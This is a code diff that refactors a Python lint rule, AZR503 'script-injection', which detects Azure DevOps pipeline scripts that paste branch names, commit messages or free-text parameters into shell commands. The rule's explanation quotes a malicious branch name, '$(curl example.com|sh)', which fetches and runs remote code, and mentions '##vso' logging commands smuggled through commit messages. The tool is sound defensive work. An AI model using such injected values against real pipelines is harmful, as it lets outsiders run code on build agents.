@@ -5,7 +5,7 @@ from collections.abc import Iterator
 
 from yaml import ScalarNode
 
-from azrelease.diagnostics import SCRIPT_INJECTION, Diagnostic, Severity
+from azrelease.diagnostics import Code, Diagnostic, Severity
 from azrelease.lint.facts.scripts import Script
 from azrelease.lint.linted_file import LintedFile
 from azrelease.lint.rule import Rule
@@ -53,22 +53,22 @@ _PRINTS = {
 _MACRO = re.compile(r"\$\(([\w.]+)\)")
 
 
-def check(subject: LintedFile) -> Iterator[Diagnostic]:
+def check(file: LintedFile) -> Iterator[Diagnostic]:
     """Variables by macro or template expression; parameters that a person fills in with any text; what is printed."""
-    for script in subject.scripts:
+    for script in file.scripts:
         if "$" not in script.text:
             continue
-        yield from _printed(subject, script)
+        yield from _printed(file, script)
         for found in macros(script.text):
             if found[1].casefold() in _STRANGERS and not _in_comment(script, found.start()):
                 message = f"`{found[0]}` is pasted into the script: whoever names a branch or writes a commit can run commands"
                 where = (script, found.start(), found.end())
-                yield subject.in_script(SCRIPT_INJECTION, message, where, _instead(found[1], script))
+                yield file.in_script(RULE.code, message, where, _instead(found[1], script))
         for part in template_expressions(script.text):
-            yield from _in_template(subject, script, part.text or "", (script, part.start, part.end))
+            yield from _in_template(file, script, part.text or "", (script, part.start, part.end))
 
 
-def _printed(subject: LintedFile, script: Script) -> Iterator[Diagnostic]:
+def _printed(file: LintedFile, script: Script) -> Iterator[Diagnostic]:
     """Text of strangers that a script prints from its environment: the agent runs the logging commands in it."""
     target = script.step.block.block("target")
     restricted = target is not None and target.entry("commands") is not None
@@ -85,7 +85,7 @@ def _printed(subject: LintedFile, script: Script) -> Iterator[Diagnostic]:
                 continue
             message = f"this prints `{source}`: a logging command in it, such as `##vso[task.setvariable …]`, is run"
             where = (script, found.start("variable"), found.end("variable"))
-            yield subject.in_script(SCRIPT_INJECTION, message, where, f"Do not print it, or {_RESTRICT}.")
+            yield file.in_script(RULE.code, message, where, f"Do not print it, or {_RESTRICT}.")
 
 
 _RESTRICT = "give the step `target: {commands: restricted, settableVariables: none}`"
@@ -106,21 +106,19 @@ def _in_comment(script: Script, position: int) -> bool:
     return script.language != "cmd" and script.line_before(position).startswith("#")
 
 
-def _in_template(
-    subject: LintedFile, script: Script, text: str, where: tuple[Script, int, int]
-) -> Iterator[Diagnostic]:
+def _in_template(file: LintedFile, script: Script, text: str, where: tuple[Script, int, int]) -> Iterator[Diagnostic]:
     for variable in () if _DECIDES.match(text) else _VARIABLE.finditer(text):
         name = variable[1] or variable[2]
         if name.casefold() in _STRANGERS - _NOT_YET:
             message = f"`{name}` is pasted into the script: whoever names a branch or writes a commit can run commands"
-            yield subject.in_script(SCRIPT_INJECTION, message, where, _instead(name, script))
+            yield file.in_script(RULE.code, message, where, _instead(name, script))
     given = _PARAMETER.fullmatch(text)
     name = (given[1] or given[2]) if given else ""
-    parameter = subject.file.parameters.get(name.casefold()) if subject.file.is_pipeline else None
+    parameter = file.parameters.get(name.casefold()) if file.is_pipeline else None
     if parameter is not None and parameter.type == "string" and parameter.values is None:
         message = f"the parameter `{name}` is pasted into the script: whoever starts a run can run commands"
         hint = f"Hand it over in `env`, or list its `values`. If the script prints it, {_RESTRICT}."
-        yield subject.in_script(SCRIPT_INJECTION, message, where, hint, Severity.INFO)
+        yield file.in_script(RULE.code, message, where, hint, Severity.INFO)
 
 
 def _instead(name: str, script: Script) -> str:
@@ -135,14 +133,16 @@ def _instead(name: str, script: Script) -> str:
 
 
 RULE = Rule(
-    SCRIPT_INJECTION,
-    "text that a stranger chooses is pasted into a script",
-    "Macros and template expressions put their text into the script before the shell reads it: a branch called "
-    '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
-    "(learn.microsoft.com/azure/devops/pipelines/security/inputs). Data is still text that the agent reads when a script prints it: "
-    "`##vso[…]` in the message of a commit sets variables. In a step with `target: {commands: restricted, settableVariables: none}` it does not "
-    "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target).",
-    "steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
-    'steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
-    check,
+    code=Code("AZR503", "script-injection", Severity.WARNING),
+    summary="text that a stranger chooses is pasted into a script",
+    why=(
+        "Macros and template expressions put their text into the script before the shell reads it: a branch called "
+        '`"$(curl example.com|sh)"` runs. The environment has the same text as data '
+        "(learn.microsoft.com/azure/devops/pipelines/security/inputs). Data is still text that the agent reads when a script prints it: "
+        "`##vso[…]` in the message of a commit sets variables. In a step with `target: {commands: restricted, settableVariables: none}` it does not "
+        "(learn.microsoft.com/azure/devops/pipelines/yaml-schema/target)."
+    ),
+    wrong="steps:\n- bash: ./tag.sh $(Build.SourceBranchName)\n",
+    right='steps:\n- bash: ./tag.sh "$BUILD_SOURCEBRANCHNAME"\n',
+    check=check,
 )
